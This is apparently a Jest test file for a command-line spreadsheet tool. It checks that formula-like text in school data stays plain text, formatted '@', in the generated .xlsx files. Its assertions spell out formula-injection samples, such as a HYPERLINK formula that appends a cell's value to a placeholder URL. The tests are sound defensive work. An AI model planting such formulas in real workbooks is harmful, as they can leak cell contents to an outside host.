/**
 * Text from the data never becomes a formula in the .xlsx files of the command line (issue 13 § 1):
 * the demo region with formula-like text in every text column (tests/helpers/hostile.ts), through
 * `shnor identify --format xlsx`, `shnor template school-roadmaps` and `shnor import`, read back
 * from the written files. exceljs stores strings as strings; each such cell must also be formatted
 * as text («@», numFmtId 49 in styles.xml), so that F2 and Enter in Excel keep it text.
 */
import * as fs from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { main } from '../../cli/main';
import { workbookFromTables } from '../../cli/xlsx';
import { isFormulaLike } from '../../shared/text-guard';
import { csvTables } from '../fakes/gas-region';
import { PAYLOADS, fromPayload, hostileTables } from '../helpers/hostile';
import { DEMO_CSV, tempDir } from './run-cli';

const quiet = { stdout: () => undefined, stderr: () => undefined, isTTY: false };

interface Audit { formulas: string[]; unguarded: string[]; texts: string[] }

/** Formulas from the data, formula-like text not formatted «@», and all such text, of the sheets not in `skip`. */
async function audit(file: string, skip: string[] = []): Promise<Audit> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const out: Audit = { formulas: [], unguarded: [], texts: [] };
  for (const ws of wb.worksheets) {
    if (skip.includes(ws.name)) continue;
    ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => {
      const v = cell.value as unknown;
      if (v && typeof v === 'object' && 'formula' in (v as object) && fromPayload(String((v as { formula: string }).formula))) out.formulas.push(`${ws.name}!${cell.address}`);
      if (!isFormulaLike(v)) return;
      out.texts.push(v);
      if (cell.numFmt !== '@') out.unguarded.push(`${ws.name}!${cell.address} ${JSON.stringify(v)} ${cell.numFmt}`);
    }));
  }
  return out;
}

/** The cell formats of styles.xml: numFmtId of each xf of cellXfs. */
async function cellXfs(file: string): Promise<string[]> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const styles = await zip.file('xl/styles.xml')!.async('string');
  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1];
  return [...xfs.matchAll(/<xf\b([^>]*)/g)].map((m) => /numFmtId="(\d+)"/.exec(m[1])?.[1] ?? '0');
}

describe('command line: hostile text in every text column of the input', () => {
  const dir = tempDir('shnor-hostile-');
  const input = path.join(dir, 'region.xlsx');

  beforeAll(async () => {
    await workbookFromTables(hostileTables(csvTables(DEMO_CSV))).xlsx.writeFile(input);
  });

  test('the input sheets the command line writes from tables hold the text as text, formatted «@»', async () => {
    const a = await audit(input);
    expect(a.formulas).toEqual([]);
    expect(a.unguarded).toEqual([]);
    for (const p of PAYLOADS) expect(a.texts).toContain(p);
  });

  test('identify --format xlsx: output sheets keep it as text, each such cell formatted «@» (numFmtId 49)', async () => {
    const out = path.join(dir, 'result.xlsx');
    expect(await main(['identify', input, '--format', 'xlsx', '--out', out], quiet)).toBe(0);
    const a = await audit(out);
    expect(a.formulas).toEqual([]);
    expect(a.unguarded).toEqual([]);
    expect(a.texts).toContain('=HYPERLINK("http://x"&A1,"y")');
    expect(a.texts).toContain('+1+1');
    expect(a.texts).toContain('=HYPERLINK("http://x"&A1,"y")0');
    // The file itself: strings, never <f>, and a text xf (the built-in «@» is numFmtId 49) applied.
    const zip = await JSZip.loadAsync(fs.readFileSync(out));
    const names = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    for (const n of names) expect(await zip.file(n)!.async('string')).not.toMatch(/<f>[^<]*(http:\/\/x|1\+1|SUM\(1\))/);
    const xfs = await cellXfs(out);
    expect(xfs).toContain('49');
    const sheetXml = await zip.file(names[4])!.async('string');
    const textXf = new Set(xfs.map((id, i) => (id === '49' ? String(i) : '')).filter(Boolean));
    const styled = [...sheetXml.matchAll(/<c r="[A-Z]+\d+" s="(\d+)" t="s"/g)].map((m) => m[1]);
    expect(styled.some((s) => textXf.has(s))).toBe(true);
  });

  test('template school-roadmaps: hostile school names as text, the template\'s own formulas only', async () => {
    const out = path.join(dir, 'roadmaps.xlsx');
    expect(await main(['template', 'school-roadmaps', '--input', input, '--out', out], quiet)).toBe(0);
    const a = await audit(out);
    expect(a.formulas).toEqual([]);
    expect(a.unguarded).toEqual([]);
    expect(a.texts.length).toBeGreaterThan(0);
  });

  test('import of an ЕГЭ table with hostile school names into the hostile book: no formula, every such cell «@»', async () => {
    const into = path.join(dir, 'into.xlsx');
    fs.copyFileSync(input, into);
    const src = path.join(dir, 'ege.csv');
    const rows = [['Код ОО', 'Наименование ОО', 'Предмет', 'Участников', 'Средний балл']];
    const schools = hostileTables(csvTables(DEMO_CSV)).schools;
    PAYLOADS.forEach((p, i) => rows.push([String(schools[13 + i][0]), p, 'Математика', String(10 + i), '55']));
    const cell = (v: string) => (/[;"\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    fs.writeFileSync(src, `\uFEFF${rows.map((r) => r.map(cell).join(';')).join('\r\n')}\r\n`);
    const status = await main(['import', 'ege', src, '--into', into, '--year', '2025'], quiet);
    expect([0, 2]).toContain(status);
    const a = await audit(into);
    expect(a.formulas).toEqual([]);
    expect(a.unguarded).toEqual([]);
  });
});
